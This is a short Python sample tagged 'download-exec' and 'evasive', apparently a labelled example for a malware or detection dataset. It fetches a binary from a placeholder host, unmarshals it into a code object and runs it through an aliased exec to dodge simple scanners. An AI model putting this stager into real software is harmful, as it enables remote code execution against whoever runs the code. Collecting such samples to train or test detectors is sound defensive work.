# family: download-exec
# evasive: a marshalled code object fetched from a server, loaded and run
import marshal
import urllib.request as r

blob = r.urlopen("http://m.example.invalid/c.bin").read()
code = marshal.loads(blob[16:])
fn = exec
fn(code)
